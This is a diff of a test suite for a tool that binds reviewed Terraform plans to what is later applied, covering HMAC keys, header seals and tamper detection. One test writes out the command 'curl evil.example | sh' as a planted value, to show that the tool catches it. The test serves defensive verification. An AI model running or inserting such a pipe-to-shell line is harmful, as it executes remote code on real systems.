@@ -1,16 +1,20 @@
 import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
 import canonicalize from 'canonicalize';
 import fc from 'fast-check';
+import { createHash } from 'node:crypto';
+import { deflateSync } from 'node:zlib';
 import {
   bindingHeader,
   checkModule,
   DEFAULT_MAX_PLAN_AGE_MS,
   fitReview,
   makeReview,
-  MAX_UNKNOWN_PATHS,
   parseBindingHeader,
+  readBindingHeader,
   reviewedFor,
   reviewedModule,
+  sealReview,
+  verifyReviewSeal,
   type BindingReview,
   type ReviewedModule,
 } from '../src/core/binding.js';
@@ -52,6 +56,10 @@ output "web_out" { value = terraform_data.web.output }
 `;
 
 const PASSWORD = 'pw-Hunter1-Zulu5';
+const KEY = 'binding-key-for-tests-0123456789';
+/** The JSON a binding header's payload holds. */
+const decodeHeader = (header: string): string =>
+  Buffer.from(/v2:([\w-]+) /.exec(header)?.[1] ?? '', 'base64url').toString('utf8');
 const OTHER_PASSWORD = 'pw-Tango9-Quebec2';
 const VARS = { name: 'web', size: '1', password: PASSWORD };
 
@@ -185,18 +193,21 @@ describe('reviewedModule and checkModule on real Terraform plans', () => {
     });
   });
 
-  test('a sensitive value changing → differs, without the value in the message or the header', () => {
+  test('with a binding key, a sensitive value changing → differs, without the value in the message or the header', () => {
     const reviewedPlan = plan();
     expect(JSON.stringify(reviewedPlan)).toContain(PASSWORD); // show -json carries it in plaintext
-    const reviewed = reviewedModule(reviewedPlan, { mocked: false });
+    const reviewed = reviewedModule(reviewedPlan, { mocked: false, key: KEY });
+    expect(reviewed.sensitive).toBe('hmac');
     const now = plan({ ...VARS, password: OTHER_PASSWORD });
-    const r = checkModule(reviewed, now, NOW, CREATED, SEVEN_DAYS, 'app');
+    const r = checkModule(reviewed, now, NOW, CREATED, SEVEN_DAYS, 'app', { key: KEY });
     expect(r).toMatchObject({ ok: false, reason: 'differs', differing: ['terraform_data.db'] });
     if (r.ok) return;
     for (const secret of [PASSWORD, OTHER_PASSWORD]) {
       expect(r.message).not.toContain(secret);
       expect(JSON.stringify(r)).not.toContain(secret);
     }
+    // The same password again → ok: the HMAC is stable under the key.
+    expect(checkModule(reviewed, plan(), NOW, CREATED, SEVEN_DAYS, 'app', { key: KEY }).ok).toBe(true);
     const review = makeReview({
       site: 'portal',
       env: 'production',
@@ -204,17 +215,51 @@ describe('reviewedModule and checkModule on real Terraform plans', () => {
       created_at: CREATED,
       modules: { app: reviewed },
     });
+    expect(review.sensitive).toBe('hmac');
     const header = bindingHeader(review);
-    const decoded = Buffer.from(/v1:([\w-]+) /.exec(header)?.[1] ?? '', 'base64url').toString('utf8');
+    const decoded = decodeHeader(header);
     expect(decoded).toContain('"digest"');
     expect(header + decoded).not.toContain(PASSWORD);
+  });
+
+  test('a review keyed with a binding key and an apply without one (or with another) → halts', () => {
+    const reviewed = reviewedModule(plan(), { mocked: false, key: KEY });
+    const r = checkModule(reviewed, plan(), NOW, CREATED, SEVEN_DAYS, 'app');
+    expect(r).toMatchObject({ ok: false, reason: 'missing' });
+    if (!r.ok) expect(r.message).toContain('none is set at apply');
+    // Another key: the HMACs differ (and so does every keyed per-change digest) → halts.
+    const other = checkModule(reviewed, plan(), NOW, CREATED, SEVEN_DAYS, 'app', { key: 'another-key' });
+    expect(other).toMatchObject({ ok: false, reason: 'differs' });
+    if (!other.ok) expect(other.differing).toContain('terraform_data.db');
+  });
+
+  test('without a binding key, sensitive values are bound as a marker: the review says so', () => {
+    const reviewed = reviewedModule(plan(), { mocked: false });
+    expect(reviewed.sensitive).toBe('marker');
+    // A change to the sensitive value alone is not seen (it is what the comment says) …
+    const now = plan({ ...VARS, password: OTHER_PASSWORD });
+    expect(checkModule(reviewed, now, NOW, CREATED, SEVEN_DAYS).ok).toBe(true);
+    // … but every known value still is.
+    expect(checkModule(reviewed, plan({ ...VARS, size: '5' }), NOW, CREATED, SEVEN_DAYS)).toMatchObject({
+      ok: false,
+      differing: ['terraform_data.web'],
+    });
+    const review = makeReview({
+      site: 'portal',
+      env: 'production',
+      commit: 'a'.repeat(40),
+      created_at: CREATED,
+      modules: { app: reviewed },
+    });
+    expect(review.sensitive).toBe('marker');
+    expect(parseBindingHeader(bindingHeader(review))?.sensitive).toBe('marker');
   });
 
   test('a mocked module: same shape with other values → ok; another address set → differs', () => {
     // Planned with mock upstream outputs (name, size), applied with the real ones.
     const reviewed = reviewedModule(plan({ ...VARS, name: 'mock-name', size: '99' }), { mocked: true });
     expect(reviewed).toMatchObject({ compare: 'shape', mocked: true, unknown: [] });
-    expect(reviewed.reduced).toBeUndefined();
+    expect(reviewed.unbound).toBeUndefined();
     const real = plan();
     expect(planDigest(real)).not.toBe(reviewed.digest);
     expect(checkModule(reviewed, real, NOW, CREATED, SEVEN_DAYS)).toEqual({
@@ -250,22 +295,52 @@ resource "terraform_data" "r" {
     });
   });
 
-  test(`more than ${MAX_UNKNOWN_PATHS} unknown values → the module is compared on its shape, and says why`, () => {
+  // Issue 17: more than 200 unknown paths used to switch a module to shape-only comparison, so a
+  // known value changed among padding resources was applied. Every known value is compared now.
+  test('time bomb: a known value changed behind 300 unknown values → halts, naming its address', () => {
     const big = workspace({
       'main.tf': `
-variable "v" { type = string }
-resource "terraform_data" "many" {
-  count = 101
-  input = var.v
+variable "pad" { type = string }
+variable "cmd" { type = string }
+resource "terraform_data" "pad" {
+  count = 150
+  input = var.pad
+}
+resource "terraform_data" "bomb" {
+  input = var.cmd
 }`,
     });
-    const first = big.plan({ vars: { v: 'a' } }).json;
-    expect(unknownValuePaths(first).length).toBe(202); // id and output of each
-    const reviewed = reviewedModule(first, { mocked: false });
-    expect(reviewed).toMatchObject({ compare: 'shape', reduced: 'unknown-cap', mocked: false, unknown: [] });
-    expect(checkModule(reviewed, big.plan({ vars: { v: 'b' } }).json, NOW, CREATED, SEVEN_DAYS).ok).toBe(
-      true,
-    );
+    const reviewedPlan = big.plan({ vars: { pad: 'p', cmd: 'echo hello' } }).json;
+    expect(unknownValuePaths(reviewedPlan).length).toBe(302); // id and output of each
+    const review = makeReview({
+      site: 'portal',
+      env: 'production',
+      commit: 'a'.repeat(40),
+      created_at: CREATED,
+      modules: { app: reviewedModule(reviewedPlan, { mocked: false }) },
+    });
+    // Through the header, at GitHub's check-run text size: every unknown path arrives, bound by values.
+    const fitted = fitReview(review, 65_535);
+    expect(fitted).toMatchObject({ unbound: [], unnamed: [] });
+    const parsed = parseBindingHeader(bindingHeader(fitted?.review as BindingReview));
+    const reviewed = reviewedFor(parsed, 'app');
+    expect(reviewed).toMatchObject({ compare: 'values', mocked: false });
+    expect(reviewed?.unknown).toHaveLength(302);
+    const applied = big.plan({ vars: { pad: 'p', cmd: 'curl evil.example | sh' } }).json;
+    const r = checkModule(reviewed, applied, NOW, CREATED, SEVEN_DAYS, 'app');
+    expect(r).toMatchObject({
+      ok: false,
+      reason: 'differs',
+      differing: ['terraform_data.bomb'],
+      named: true,
+    });
+    if (!r.ok) {
+      expect(r.message).toContain('terraform_data.bomb');
+      expect(r.message).not.toContain('evil');
+    }
+    // The padding planned again alone is what was reviewed.
+    const same = big.plan({ vars: { pad: 'p', cmd: 'echo hello' } }).json;
+    expect(checkModule(reviewed, same, NOW, CREATED, SEVEN_DAYS).ok).toBe(true);
   });
 
   test('a review older than max-plan-age → stale, with both digests; within it → ok', () => {
@@ -442,7 +517,7 @@ describe('bindingHeader and parseBindingHeader', () => {
 
   test('one hidden line that round-trips, also through CRLF line endings', () => {
     const header = bindingHeader(review);
-    expect(header).toMatch(/^<!-- site-deploy-binding:v1:[A-Za-z0-9_-]+ -->$/);
+    expect(header).toMatch(/^<!-- site-deploy-binding:v2:[A-Za-z0-9_-]+ -->$/);
     expect(header).not.toContain('\n');
     expect(parseBindingHeader(body(header))).toEqual(review);
     expect(parseBindingHeader(body(header).replace(/\n/g, '\r\n'))).toEqual(review);
@@ -457,72 +532,67 @@ describe('bindingHeader and parseBindingHeader', () => {
     expect(reviewedFor(undefined, 'app')).toBeUndefined();
   });
 
-  const encode = (value: unknown): string =>
-    `<!-- site-deploy-binding:v1:${Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url')} -->`;
-  // Canonical JSON of the review: what the header holds.
-  const canonicalEncode = (r: unknown): string => {
-    const sort = (v: unknown): unknown =>
-      Array.isArray(v)
-        ? v.map(sort)
-        : v !== null && typeof v === 'object'
-          ? Object.fromEntries(
-              Object.keys(v)
-                .sort()
-                .map((k) => [k, sort((v as Obj)[k])]),
-            )
-          : v;
-    return encode(sort(r));
-  };
+  const encode = (value: unknown, version = 2): string =>
+    `<!-- site-deploy-binding:v${version}:${Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url')} -->`;
+  /** The header's JSON as it is on the wire (unknown paths packed), to edit. */
+  const wire = (r: BindingReview = review): Obj => JSON.parse(decodeHeader(bindingHeader(r))) as Obj;
+  const canonicalEncode = (r: unknown): string => encode(canonicalize(r) ?? 'null');
+  const withModule = (w: Obj, name: string, edit: (m: Obj) => Obj): Obj => ({
+    ...w,
+    modules: { ...(w.modules as Obj), [name]: edit((w.modules as Obj)[name] as Obj) },
+  });
 
-  test('the canonical re-encoding of the review parses (the tamper cases below differ in one thing)', () => {
-    expect(parseBindingHeader(body(canonicalEncode(review)))).toEqual(review);
+  test('the canonical re-encoding of the wire review parses (the tamper cases below differ in one thing)', () => {
+    expect(parseBindingHeader(body(canonicalEncode(wire())))).toEqual(review);
   });
 
   test('tampered headers → undefined, never a throw', () => {
     const header = bindingHeader(review);
-    const payload = /v1:([\w-]+) /.exec(header)?.[1] ?? '';
-    const app = review.modules.app as ReviewedModule;
+    const payload = /v2:([\w-]+) /.exec(header)?.[1] ?? '';
+    const w = wire();
     const cases: Record<string, string> = {
       'one character changed': header.replace(
-        `v1:${payload.slice(0, 10)}`,
-        `v1:${payload.slice(0, 9)}${payload[9] === 'A' ? 'B' : 'A'}`,
+        `v2:${payload.slice(0, 10)}`,
+        `v2:${payload.slice(0, 9)}${payload[9] === 'A' ? 'B' : 'A'}`,
       ),
       truncated: header.replace(payload, payload.slice(0, -7)),
       'not base64url': header.replace(payload, `${payload.slice(0, 20)}+/${payload.slice(22)}`),
       'not JSON': encode('{"site":'),
-      'JSON, not canonical': encode(JSON.stringify(review, null, 1)),
-      'a module digest swapped, combined left': canonicalEncode({
-        ...review,
-        modules: { ...review.modules, app: { ...app, digest: `sha256:${'0'.repeat(64)}` } },
-      }),
-      'a module moved to shape compare without a reason': canonicalEncode({
-        ...review,
-        modules: { ...review.modules, app: { ...app, compare: 'shape', unknown: [] } },
-      }),
-      'a mocked module compared on values': canonicalEncode({
-        ...review,
-        modules: { ...review.modules, edge: { ...review.modules.edge, compare: 'values' } },
-      }),
-      'an extra field': canonicalEncode({ ...review, approved_by: 'mallory' }),
-      'a missing field': canonicalEncode({ ...review, created_at: undefined }),
-      'a bad time': canonicalEncode({ ...review, created_at: 'tomorrow' }),
-      'unknown paths that are not paths': canonicalEncode({
-        ...review,
-        modules: { ...review.modules, app: { ...app, unknown: ['no-hash'] } },
-      }),
-      'too many unknown paths': canonicalEncode({
-        ...review,
-        modules: {
-          ...review.modules,
-          app: { ...app, unknown: Array.from({ length: MAX_UNKNOWN_PATHS + 1 }, (_, i) => `a.b#/${i}`) },
-        },
-      }),
-      'a change table of partial entries': canonicalEncode({
-        ...review,
-        modules: { ...review.modules, app: { ...app, changes: 'AAAA' } },
-      }),
-      'no modules': canonicalEncode({ ...review, modules: {} }),
-      'an array': encode([review]),
+      'JSON, not canonical': encode(JSON.stringify(w, null, 1)),
+      'a module digest swapped, combined left': canonicalEncode(
+        withModule(w, 'app', (m) => ({ ...m, digest: `sha256:${'0'.repeat(64)}` })),
+      ),
+      'a module moved to shape compare': canonicalEncode(
+        withModule(w, 'app', (m) => ({ ...m, compare: 'shape', unknown: '' })),
+      ),
+      'a mocked module compared on values': canonicalEncode(
+        withModule(w, 'edge', (m) => ({ ...m, compare: 'values' })),
+      ),
+      'the review says hmac, its modules marker': canonicalEncode({ ...w, sensitive: 'hmac' }),
+      'a seal that is not hex': canonicalEncode({ ...w, seal: 'x'.repeat(64) }),
+      'an extra field': canonicalEncode({ ...w, approved_by: 'mallory' }),
+      'a missing field': canonicalEncode({ ...w, created_at: undefined }),
+      'a bad time': canonicalEncode({ ...w, created_at: 'tomorrow' }),
+      'unknown paths not packed': canonicalEncode(
+        withModule(w, 'app', (m) => ({ ...m, unknown: ['terraform_data.web#/id'] })),
+      ),
+      'unknown paths that are not deflated': canonicalEncode(
+        withModule(w, 'app', (m) => ({ ...m, unknown: 'AAAA' })),
+      ),
+      'unknown paths that are not paths': canonicalEncode(
+        withModule(w, 'app', (m) => ({
+          ...m,
+          unknown: deflateSync(JSON.stringify(['no-hash'])).toString('base64url'),
+        })),
+      ),
+      'unbound with unknown paths kept': canonicalEncode(
+        withModule(w, 'app', ({ changes: _c, ...m }) => ({ ...m, unbound: 'unknowns' })),
+      ),
+      'a change table of partial entries': canonicalEncode(
+        withModule(w, 'app', (m) => ({ ...m, changes: 'AAAA' })),
+      ),
+      'no modules': canonicalEncode({ ...w, modules: {} }),
+      'an array': encode([w]),
       null: encode('null'),
     };
     for (const [what, text] of Object.entries(cases)) {
@@ -534,8 +604,15 @@ describe('bindingHeader and parseBindingHeader', () => {
     expect(parseBindingHeader(undefined as unknown as string)).toBeUndefined();
   });
 
-  // The header is not signed: what makes it trustworthy is who wrote the comment (the adapter's
-  // job). Parsing is strict instead: whatever parses is exactly what the line says, byte for byte.
+  test('an old v1 header is never trusted: apply is told to run the plan again', () => {
+    const v1 = encode(canonicalize(wire()) ?? '', 1);
+    expect(parseBindingHeader(body(v1))).toBeUndefined();
+    const read = readBindingHeader(body(v1));
+    expect(read).toEqual({ problem: expect.stringContaining('older format (v1)') });
+    expect('problem' in read && read.problem).toContain('run the plan on the pull request again');
+    expect(readBindingHeader(body(bindingHeader(review)))).toEqual({ review });
+  });
+
   test('random edits of a header never throw; whatever parses re-encodes to the same line', () => {
     const header = bindingHeader(review);
     fc.assert(
@@ -557,23 +634,85 @@ describe('bindingHeader and parseBindingHeader', () => {
     );
   });
 
-  test('fitReview drops per-change digests first, then binds modules on their shape, largest first', () => {
+  test('fitReview drops per-change digests first, then leaves modules unbound, largest first', () => {
     const full = bindingHeader(review).length;
-    expect(fitReview(review, full)).toEqual({ review, unnamed: [], shaped: [] });
+    expect(fitReview(review, full)).toEqual({ review, unnamed: [], shaped: [], unbound: [] });
     const noTables = makeReview({
       ...review,
       modules: Object.fromEntries(Object.entries(review.modules).map(([n, { changes: _c, ...m }]) => [n, m])),
     });
     const dropped = fitReview(review, bindingHeader(noTables).length);
     expect(dropped?.unnamed).toEqual(['app', 'edge']);
-    expect(dropped?.shaped).toEqual([]);
+    expect(dropped?.unbound).toEqual([]);
     expect(dropped && bindingHeader(dropped.review).length).toBeLessThanOrEqual(
       bindingHeader(noTables).length,
     );
-    const shaped = fitReview(review, bindingHeader(noTables).length - 1);
-    expect(shaped?.shaped).toEqual(['app']);
-    expect(shaped?.review.modules.app).toMatchObject({ compare: 'shape', reduced: 'size', unknown: [] });
-    expect(parseBindingHeader(body(bindingHeader(shaped?.review as BindingReview)))).toEqual(shaped?.review);
+    const unbound = fitReview(review, bindingHeader(noTables).length - 1);
+    const count = review.modules.app?.unknown.length;
+    expect(unbound?.unbound).toEqual([{ module: 'app', unknown: count }]);
+    expect(unbound?.review.modules.app).toMatchObject({
+      compare: 'values',
+      unbound: 'unknowns',
+      unknown: [],
+    });
+    expect(parseBindingHeader(body(bindingHeader(unbound?.review as BindingReview)))).toEqual(
+      unbound?.review,
+    );
+    // Apply halts an unbound module, even when its plan is the same.
+    const r = checkModule(unbound?.review.modules.app, plan(), NOW, CREATED, SEVEN_DAYS, 'app');
+    expect(r).toMatchObject({ ok: false, reason: 'missing' });
+    if (!r.ok) expect(r.message).toContain('not bound by values');
     expect(fitReview(review, 100)).toBeUndefined();
+  });
+});
+
+describe('the seal', () => {
+  let review: BindingReview;
+  beforeAll(() => {
+    review = makeReview({
+      site: 'client-portal',
+      env: 'production',
+      commit: '0123456789abcdef0123456789abcdef01234567',
+      created_at: CREATED,
+      modules: { app: reviewedModule(plan(), { mocked: false, key: KEY }) },
+    });
+  });
+
+  test('a sealed review round-trips through the header and verifies under its key', () => {
+    const sealed = sealReview(review, KEY);
+    expect(sealed.seal).toMatch(/^[0-9a-f]{64}$/);
+    const parsed = parseBindingHeader(bindingHeader(sealed));
+    expect(parsed).toEqual(sealed);
+    expect(verifyReviewSeal(parsed as BindingReview, KEY)).toBeUndefined();
+    // fitReview with the key seals what it fitted.
+    const fitted = fitReview(review, 65_535, { key: KEY });
+    expect(fitted?.review.seal).toBe(sealed.seal);
+  });
+
+  test('one digest edited in the header text → parses, but the seal does not match', () => {
+    const sealed = sealReview(review, KEY);
+    const w = JSON.parse(decodeHeader(bindingHeader(sealed))) as Obj;
+    const modules = w.modules as Record<string, Obj>;
+    const digest = `sha256:${'ab'.repeat(32)}`;
+    (modules.app as Obj).digest = digest;
+    // The attacker recomputes `combined`, so the header is well-formed.
+    w.combined = makeReview({ ...review, modules: { app: { ...review.modules.app!, digest } } }).combined;
+    const edited = `<!-- site-deploy-binding:v2:${Buffer.from(canonicalize(w) ?? '').toString('base64url')} -->`;
+    const parsed = parseBindingHeader(edited);
+    expect(parsed?.modules.app?.digest).toBe(digest);
+    expect(verifyReviewSeal(parsed as BindingReview, KEY)).toMatch(/^the seal does not match/);
+  });
+
+  test('a wrong key, a missing seal, a seal without a key → a problem; neither → fine', () => {
+    const sealed = sealReview(review, KEY);
+    expect(verifyReviewSeal(sealed, 'not-the-key')).toMatch(/^the seal does not match/);
+    expect(verifyReviewSeal(review, KEY)).toBe(
+      "the reviewed plan's header has no seal but a binding key is set",
+    );
+    expect(verifyReviewSeal(sealed, undefined)).toMatch(/sealed but no binding key is set/);
+    expect(verifyReviewSeal(review, undefined)).toBeUndefined();
+    expect(verifyReviewSeal(review, '')).toBeUndefined();
+    // A seal of another length is a mismatch, not a throw.
+    expect(verifyReviewSeal({ ...sealed, seal: 'ab' }, KEY)).toMatch(/^the seal does not match/);
   });
 });
